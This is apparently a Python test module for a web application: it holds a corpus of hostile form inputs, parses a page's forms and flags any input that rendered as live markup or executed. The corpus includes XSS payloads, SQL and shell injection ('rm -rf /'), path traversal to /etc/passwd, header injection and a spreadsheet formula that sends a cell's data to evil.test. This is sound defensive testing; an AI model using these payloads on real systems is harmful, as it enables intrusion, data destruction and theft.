"""Text that means harm, the forms that a page holds, and what is found on a page where such text came alive."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import quote_plus

PRODUCT = ("7919*7907", "62615533")
"""A template that was evaluated shows the product; nothing else does."""
MARK = "data-hit"
"""The attribute that every element of the corpus carries: an element with it was made of typed text."""

MARKUP = {
    "element": f'"><x-hit {MARK}=1 onmouseover=__hit()>element</x-hit>',
    "script": f"</textarea></title><script {MARK}>__hit()</script>",
    "image": f"'><img {MARK} src=x onerror=__hit()>",
    "vector": f"</option></select></dialog><svg {MARK} onload=__hit()><animate {MARK} onbegin=__hit() /></svg>",
    "frame": f"<iframe {MARK} srcdoc='<script>parent.__hit()</script>'></iframe><base {MARK} href=//evil.test/>",
    "attribute": f'" onfocus=__hit() autofocus {MARK}=1 x="',
    "address": "javascript:__hit()//",
    "link": f"<a {MARK} href='data:text/html,<script>parent.__hit()</script>'>link</a>",
    "escaped": f"&lt;x-hit {MARK}&gt;&#60;x-hit {MARK}&#62;&quot; {MARK}=1 &amp;lt;",
    "style": f"<style {MARK}>@import'//evil.test'</style><link {MARK} rel=stylesheet href=//evil.test/x>",
    "htmx": f"<div {MARK} hx-get=/sign-out hx-trigger=load></div>",
}
MEANING = {
    "sql": "'; DROP TABLE lab.lots; --",
    "sql or": "' OR '1'='1' /*",
    "bind": ":name $1 %(x)s ::jsonb \\x00 E'\\\\'",
    "template": f"{{{{{PRODUCT[0]}}}}} ${{{PRODUCT[0]}}} #{{{PRODUCT[0]}}} <%= {PRODUCT[0]} %>",
    "block": "{% include 'layout.html' %}{# #}{{ who.csrf }}",
    "format": "{0} {} {field} {most.__class__} %s %d %n %(x)s %",
    "formula": '=HYPERLINK("http://evil.test?x="&A1,"look")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\..\\windows\\win.ini",
    "json": '{"$ne": null, "__proto__": {"hit": 1}}',
    "json list": "[[[[",
    "shell": "$(touch /tmp/hit) `id` ; rm -rf /",
    "elsewhere": "//evil.test/%2e%2e",
    "astral": "𠮷𝒳🧬🔬",
    "combining": "Z" + "\u0335\u0321\u0316" * 60,
    "right to left": "שלום עולם مرحبا",
}
SHAPES = {
    "null": "a\x00b",
    "escape": "\x1b[31mred\x1b[0m",
    "bell": "\x07",
    "delete": "a\x7f\x85b",
    "override": "\u202egnp.exe",
    "isolate": "\u2066abc\u2069",
    "zero width": "P\u200bASS\ufeff",
    "family": "👩\u200d👩\u200d👧",
    "surrogate": b"\xed\xa0\xbd",
    "no utf-8": b"\xff\xfe\xc0\xae",
    "private": "\ue000\U000f0000",
    "no character": "\uffff\U0010ffff",
    "long": "x" * 10_000,
    "header": "x\r\nSet-Cookie: hit=1\r\nLocation: //evil.test\r\n\r\n<x-hit>",
    "blank": " \u3000\u00a0\t",
    "separators": "a\u2028b\u2029c",
    "1e999": "1e999",
    "NaN": "NaN",
    "Infinity": "-Infinity",
    "-0": "-0",
    "9^30": "9" * 30,
    "tiny": "1e-400",
    "1e18": "1e18",
    "hexadecimal": "0x10",
    "arabic digits": "١٢٣",
    "superscript": "²",
    "underscore": "1_000",
    "2^63": "9223372036854775808",
    "year 0": "0000-00-00",
    "year 99999": "99999-12-31",
    "year 1": "0001-01-01T00:00",
    "zone": "9999-12-31T23:59-23:59",
    "no hour": "2026-11-22T25:61",
    "no day": "2026-02-30",
    "week": "2026-W47-1",
    "true": "true",
    "null word": "null",
}
CORPUS: dict[str, str | bytes] = {**MARKUP, **MEANING, **SHAPES}
VOID = frozenset({"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"})
ADDRESSES = frozenset({"href", "src", "action", "formaction", "xlink:href", "srcdoc", "hx-get", "hx-post"})
UNWRITTEN = frozenset({"submit", "button", "image", "reset", "file"})


@dataclass
class Field:
    """One field of a form, as it stands."""

    name: str
    kind: str
    value: str = ""
    choices: list[str] = field(default_factory=list)
    is_on: bool = False
    is_required: bool = False
    attributes: dict[str, str] = field(default_factory=dict)

    @property
    def is_written(self) -> bool:
        """Whether somebody types into it, free to write anything."""
        return self.kind in {"text", "search", "textarea"}


@dataclass
class Form:
    """One form of a page."""

    action: str
    method: str
    is_fragment: bool
    fields: list[Field] = field(default_factory=list)

    @property
    def names(self) -> list[str]:
        return list(dict.fromkeys(each.name for each in self.fields))


class Page(HTMLParser):
    """A page as a browser's parser sees it: its elements, its text, its links and its forms."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self.links: list[str] = []
        self.forms: list[Form] = []
        self._form: Form | None = None
        self._select: Field | None = None
        self._area: Field | None = None
        self.feed(text)
        self.close()

    @property
    def text(self) -> str:
        """All that is written on it, and all that stands in its fields."""
        held = [each.get("value", "") for _, each in self.elements]
        return "\n".join([*self.texts, *held])

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        has = {name: value or "" for name, value in attrs}
        self.elements.append((tag, has))
        if tag == "a" or "hx-get" in has:
            self.links.append(has.get("hx-get") or has.get("href", ""))
        if tag == "form":
            self._form = Form(
                action=has.get("hx-post") or has.get("action", ""),
                method="post" if "hx-post" in has else has.get("method", "get").lower(),
                is_fragment="hx-post" in has,
            )
            self.forms.append(self._form)
        elif self._form is not None:
            self._take(tag, has)

    def _take(self, tag: str, has: dict[str, str]) -> None:
        if tag == "option" and self._select is not None:
            self._select.choices.append(has.get("value", ""))
            if "selected" in has:
                self._select.value = has.get("value", "")
        name = has.get("name", "")
        if not name or self._form is None:
            return
        kind = {"select": "select", "textarea": "textarea"}.get(tag, has.get("type", "text"))
        found = Field(name, kind, has.get("value", ""), is_on="checked" in has, attributes=has)
        found.is_required = "required" in has
        if tag == "select":
            self._select = found
        elif tag == "textarea":
            self._area = found
        elif tag == "button":
            found.kind = "hidden"
        elif tag != "input" or kind in UNWRITTEN:
            return
        self._form.fields.append(found)

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._area = None

    def handle_data(self, data: str) -> None:
        self.texts.append(data)
        if self._area is not None:
            self._area.value += data


def came_alive(page: Page) -> list[str]:
    """What on a page is no longer text though somebody typed it; empty where all of it lies still."""
    found = []
    for tag, has in page.elements:
        shown = f"<{tag} {has}>"[:300]
        if tag == "x-hit" or MARK in has:
            found.append(f"an element that was typed: {shown}")
        if any(name.startswith("on") for name in has):
            found.append(f"an element that acts by itself: {shown}")
        for name in ADDRESSES & has.keys():
            there = re.sub(r"[\x00-\x20]", "", has[name]).lower()
            is_ours = there.startswith(("/", "#", "?")) and not there.startswith(("//", "/\\"))
            if there and not is_ours:
                found.append(f"a link that leads elsewhere: {shown}")
        if tag == "script" and "src" not in has and has.get("type") != "application/json":
            found.append(f"a script in the page: {shown}")
    if PRODUCT[1] in page.text:
        found.append("a template that was typed was evaluated")
    return found


def encoded(fields: list[tuple[str, str | bytes]]) -> bytes:
    """A form's body, with every byte that one wants in it."""
    return "&".join(f"{quote_plus(name)}={quote_plus(_bytes(value))}" for name, value in fields).encode("ascii")


def _bytes(value: str | bytes) -> bytes:
    return value if isinstance(value, bytes) else value.encode()
